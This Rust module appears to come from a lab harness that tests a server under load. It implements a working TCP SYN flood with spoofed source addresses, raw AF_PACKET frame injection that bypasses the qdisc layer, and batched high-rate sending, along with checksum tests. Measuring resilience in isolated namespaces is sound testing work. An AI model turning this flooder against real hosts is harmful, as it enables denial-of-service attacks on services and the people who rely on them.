//! The attacker: a TCP SYN flood with spoofed sources from 198.18.0.0/15, written straight onto
//! the upstream end of the server's link with an `AF_PACKET` socket.
//!
//! `trafgen` (netsniff-ng) was tried first: its `TX_RING` flush fails with `EAGAIN` and ends the
//! run as soon as the server's veth ring is full, which is the normal state under a flood. This
//! sender ignores such failures, like a real attacker who does not care what is lost: a frame the
//! server's ring cannot take is dropped there, as a NIC drops what its full rx ring cannot hold.
//!
//! Frames come from a pool built once (random source, source port, sequence number and IP id,
//! checksums computed), sent in `sendmmsg` batches by one thread pinned to one CPU.

use std::{
    net::{IpAddr, Ipv4Addr},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
};

use anyhow::{Context as _, bail};
use rand::{Rng as _, SeedableRng as _, rngs::SmallRng};

use crate::netns::Netns;

/// Frames in the pool: distinct spoofed sources, cycled.
const POOL: usize = 65_536;
/// Ethernet + IPv4 + TCP without options.
const FRAME_LEN: usize = 14 + 20 + 20;
/// Frames per `sendmmsg` call.
const BATCH: usize = 64;

/// Where the flood goes.
#[derive(Clone, Debug)]
pub struct Target {
    /// Interface the frames are written to (the server's link, upstream end).
    pub interface: String,
    /// Its MAC (the frames' source).
    pub source_mac: [u8; 6],
    /// The server's MAC.
    pub dest_mac: [u8; 6],
    /// The server's address: the flood's family (the socket flood sends IPv4 only).
    pub dest: IpAddr,
    /// The attacked TCP port.
    pub port: u16,
    /// CPU the sender runs on.
    pub cpu: usize,
}

/// A running flood; stopped on drop.
pub struct SynFlood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<anyhow::Result<()>>>,
}

/// One's-complement sum of 16-bit big-endian words.
fn sum16(data: &[u8], mut sum: u32) -> u32 {
    let mut chunks = data.chunks_exact(2);
    for pair in &mut chunks {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    if let [last] = chunks.remainder() {
        sum += u32::from(*last) << 8;
    }
    sum
}

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A SYN from `source:sport` to the target, checksums filled in: Ethernet, IPv4 without
/// options or IPv6 without extension headers (the family of `source`, which must be the
/// target's), TCP without options.
pub fn syn_frame(
    target: &Target,
    source: IpAddr,
    sport: u16,
    seq: u32,
    id: u16,
) -> anyhow::Result<Vec<u8>> {
    let mut frame = Vec::with_capacity(FRAME_LEN + 20);
    frame.extend_from_slice(&target.dest_mac);
    frame.extend_from_slice(&target.source_mac);
    let ip_start = frame.len() + 2;
    // The TCP pseudo-header's addresses, protocol and length.
    let mut pseudo = Vec::with_capacity(40);
    match (source, target.dest) {
        (IpAddr::V4(source), IpAddr::V4(dest)) => {
            frame.extend_from_slice(&0x0800u16.to_be_bytes());
            // IPv4: version 4, IHL 5, total length 40, DF, TTL 64, TCP.
            frame.extend_from_slice(&[0x45, 0, 0, 40]);
            frame.extend_from_slice(&id.to_be_bytes());
            frame.extend_from_slice(&[0x40, 0, 64, 6, 0, 0]);
            frame.extend_from_slice(&source.octets());
            frame.extend_from_slice(&dest.octets());
            let ip_checksum = fold(sum16(&frame[ip_start..ip_start + 20], 0));
            frame[ip_start + 10..ip_start + 12].copy_from_slice(&ip_checksum.to_be_bytes());
            pseudo.extend_from_slice(&source.octets());
            pseudo.extend_from_slice(&dest.octets());
            pseudo.extend_from_slice(&[0, 6, 0, 20]);
        }
        (IpAddr::V6(source), IpAddr::V6(dest)) => {
            frame.extend_from_slice(&0x86ddu16.to_be_bytes());
            // IPv6: version 6, flow label from `id`, payload length 20, TCP, hop limit 64.
            frame.extend_from_slice(&[0x60, 0]);
            frame.extend_from_slice(&id.to_be_bytes());
            frame.extend_from_slice(&[0, 20, 6, 64]);
            frame.extend_from_slice(&source.octets());
            frame.extend_from_slice(&dest.octets());
            pseudo.extend_from_slice(&source.octets());
            pseudo.extend_from_slice(&dest.octets());
            pseudo.extend_from_slice(&[0, 0, 0, 20, 0, 0, 0, 6]);
        }
        (source, dest) => bail!("a SYN from {source} to {dest}: the families differ"),
    }
    // TCP: data offset 5, SYN, window 64240.
    let tcp_start = frame.len();
    frame.extend_from_slice(&sport.to_be_bytes());
    frame.extend_from_slice(&target.port.to_be_bytes());
    frame.extend_from_slice(&seq.to_be_bytes());
    frame.extend_from_slice(&[0, 0, 0, 0, 0x50, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    let tcp_checksum = fold(sum16(&frame[tcp_start..], sum16(&pseudo, 0)));
    frame[tcp_start + 16..tcp_start + 18].copy_from_slice(&tcp_checksum.to_be_bytes());
    Ok(frame)
}

/// The pool, one buffer of `POOL` frames back to back (IPv4: the socket flood's frames are
/// [`FRAME_LEN`] each).
fn pool(target: &Target) -> anyhow::Result<Vec<u8>> {
    let mut rng = SmallRng::seed_from_u64(0xA77AC);
    let mut frames = Vec::with_capacity(POOL * FRAME_LEN);
    for _ in 0..POOL {
        // 198.18.0.0/15: 198.18.x.y and 198.19.x.y.
        let low = rng.random::<u32>() & 0x0001_ffff;
        let source = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) | low);
        frames.extend_from_slice(&syn_frame(
            target,
            source.into(),
            rng.random_range(1024..u16::MAX),
            rng.random(),
            rng.random(),
        )?);
    }
    Ok(frames)
}

/// A raw packet socket bound to `interface` (in the calling thread's namespace), bypassing the
/// qdisc layer.
fn packet_socket(interface: &str) -> anyhow::Result<std::os::fd::OwnedFd> {
    use std::os::fd::FromRawFd as _;
    let name = std::ffi::CString::new(interface)?;
    // SAFETY: if_nametoindex reads a NUL-terminated string that outlives the call.
    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if index == 0 {
        return Err(std::io::Error::last_os_error()).context(format!("if_nametoindex {interface}"));
    }
    // Protocol 0: this socket only sends, it receives nothing.
    // SAFETY: plain socket(2) call; the result is checked before use.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("socket(AF_PACKET)");
    }
    // SAFETY: `fd` is a socket we just opened and own from here on.
    let socket = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
    let one: libc::c_int = 1;
    // SAFETY: PACKET_QDISC_BYPASS takes an int; the pointer and length describe `one`.
    let rc = unsafe {
        libc::setsockopt(
            fd,
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            std::ptr::from_ref(&one).cast(),
            size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(std::io::Error::last_os_error()).context("PACKET_QDISC_BYPASS");
    }
    // SAFETY: an all-zero sockaddr_ll is valid; the fields that matter are set below.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    address.sll_protocol = (libc::ETH_P_IP as u16).to_be();
    address.sll_ifindex = i32::try_from(index)?;
    // SAFETY: the pointer and length describe `address`, a sockaddr_ll.
    let rc = unsafe {
        libc::bind(
            fd,
            std::ptr::from_ref(&address).cast(),
            size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(std::io::Error::last_os_error()).context(format!("bind to {interface}"));
    }
    Ok(socket)
}

/// Pins the calling thread to `cpu` and raises its priority (nice -19), so that the rest of the
/// machine's load disturbs the measurement less.
pub fn pin_current_thread(cpu: usize) -> anyhow::Result<()> {
    let mut set = nix::sched::CpuSet::new();
    set.set(cpu)?;
    nix::sched::sched_setaffinity(nix::unistd::Pid::from_raw(0), &set)
        .with_context(|| format!("pin to CPU {cpu}"))?;
    // SAFETY: gettid has no preconditions.
    let tid = unsafe { libc::gettid() };
    // SAFETY: setpriority on this thread's id; the return value is checked.
    let rc = unsafe { libc::setpriority(libc::PRIO_PROCESS, tid as libc::id_t, -19) };
    if rc != 0 {
        return Err(std::io::Error::last_os_error()).context("setpriority -19");
    }
    Ok(())
}

fn send_loop(target: &Target, stop: &AtomicBool, sent: &AtomicU64) -> anyhow::Result<()> {
    use std::os::fd::AsRawFd as _;
    pin_current_thread(target.cpu)?;
    let socket = packet_socket(&target.interface)?;
    let frames = pool(target)?;
    // SAFETY: all-zero iovec and mmsghdr are valid; every entry is filled before each call.
    let mut iovecs: [libc::iovec; BATCH] = unsafe { std::mem::zeroed() };
    // SAFETY: as above.
    let mut messages: [libc::mmsghdr; BATCH] = unsafe { std::mem::zeroed() };
    let mut next = 0usize;
    let mut failures = 0u64;
    while !stop.load(Ordering::Relaxed) {
        for (iovec, message) in iovecs.iter_mut().zip(messages.iter_mut()) {
            iovec.iov_base = frames[next * FRAME_LEN..].as_ptr().cast_mut().cast();
            iovec.iov_len = FRAME_LEN;
            message.msg_hdr.msg_iov = iovec;
            message.msg_hdr.msg_iovlen = 1;
            next = (next + 1) % POOL;
        }
        // SAFETY: `messages` holds BATCH headers, each pointing to one iovec over a frame of
        // `frames`; the kernel only reads them during the call.
        let rc = unsafe {
            libc::sendmmsg(
                socket.as_raw_fd(),
                messages.as_mut_ptr(),
                BATCH as libc::c_uint,
                0,
            )
        };
        if rc > 0 {
            sent.fetch_add(rc as u64, Ordering::Relaxed);
        } else {
            // ENOBUFS and the like: the frame is lost, as on a congested wire. A socket that
            // never sends anything is a setup error, reported instead of spinning on.
            failures += 1;
            if failures > 1_000_000 && sent.load(Ordering::Relaxed) == 0 {
                bail!(
                    "sendmmsg on {} keeps failing: {}",
                    target.interface,
                    std::io::Error::last_os_error()
                );
            }
        }
    }
    Ok(())
}

impl SynFlood {
    /// Starts flooding `target` from a thread in `netns`, which holds its interface.
    pub fn start(netns: &Netns, target: &Target) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let thread = {
            let (stop, sent, target) = (stop.clone(), sent.clone(), target.clone());
            netns.spawn(move || send_loop(&target, &stop, &sent))
        };
        Self {
            stop,
            sent,
            thread: Some(thread),
        }
    }

    /// Frames the interface accepted so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Stops the sender and reports how it ended.
    pub fn stop(mut self) -> anyhow::Result<u64> {
        self.finish()
    }

    fn finish(&mut self) -> anyhow::Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            thread
                .join()
                .map_err(|_| anyhow::anyhow!("the flood thread panicked"))??;
        }
        Ok(self.sent())
    }
}

impl Drop for SynFlood {
    fn drop(&mut self) {
        let _ = self.finish();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_parse_with_valid_checksums() {
        let target = Target {
            interface: "x".into(),
            source_mac: [2, 0, 0, 0, 0, 1],
            dest_mac: [2, 0, 0, 0, 0, 2],
            dest: Ipv4Addr::new(192, 0, 2, 1).into(),
            port: 80,
            cpu: 0,
        };
        let frame = syn_frame(
            &target,
            Ipv4Addr::new(198, 19, 7, 9).into(),
            40_000,
            12_345,
            7,
        )
        .expect("same family");
        assert_eq!(frame.len(), FRAME_LEN);
        let packet = etherparse::SlicedPacket::from_ethernet(&frame).expect("parses");
        let Some(etherparse::NetSlice::Ipv4(ip)) = packet.net else {
            panic!("not IPv4");
        };
        assert_eq!(ip.header().source_addr(), Ipv4Addr::new(198, 19, 7, 9));
        assert_eq!(
            ip.header().to_header().calc_header_checksum(),
            ip.header().header_checksum()
        );
        let Some(etherparse::TransportSlice::Tcp(tcp)) = packet.transport else {
            panic!("not TCP");
        };
        assert!(tcp.syn() && !tcp.ack());
        assert_eq!(tcp.destination_port(), 80);
        let computed = tcp
            .to_header()
            .calc_checksum_ipv4(&ip.header().to_header(), &[])
            .expect("checksum");
        assert_eq!(computed, tcp.checksum());
    }

    #[test]
    fn ipv6_frames_parse_with_valid_checksums() {
        let dest: std::net::Ipv6Addr = "2001:db8::1".parse().expect("address");
        let source: std::net::Ipv6Addr = "2001:db8:8000:1::1".parse().expect("address");
        let target = Target {
            interface: "x".into(),
            source_mac: [2, 0, 0, 0, 0, 1],
            dest_mac: [2, 0, 0, 0, 0, 2],
            dest: dest.into(),
            port: 80,
            cpu: 0,
        };
        let frame = syn_frame(&target, source.into(), 40_000, 12_345, 7).expect("same family");
        assert_eq!(frame.len(), 14 + 40 + 20);
        let packet = etherparse::SlicedPacket::from_ethernet(&frame).expect("parses");
        let Some(etherparse::NetSlice::Ipv6(ip)) = packet.net else {
            panic!("not IPv6");
        };
        assert_eq!(ip.header().source_addr(), source);
        assert_eq!(ip.header().destination_addr(), dest);
        assert_eq!(ip.header().payload_length(), 20);
        let Some(etherparse::TransportSlice::Tcp(tcp)) = packet.transport else {
            panic!("not TCP");
        };
        assert!(tcp.syn() && !tcp.ack());
        let computed = tcp
            .to_header()
            .calc_checksum_ipv6(&ip.header().to_header(), &[])
            .expect("checksum");
        assert_eq!(computed, tcp.checksum());
        assert!(
            syn_frame(&target, Ipv4Addr::new(198, 18, 0, 1).into(), 1, 1, 1).is_err(),
            "an IPv4 source to an IPv6 target"
        );
    }
}
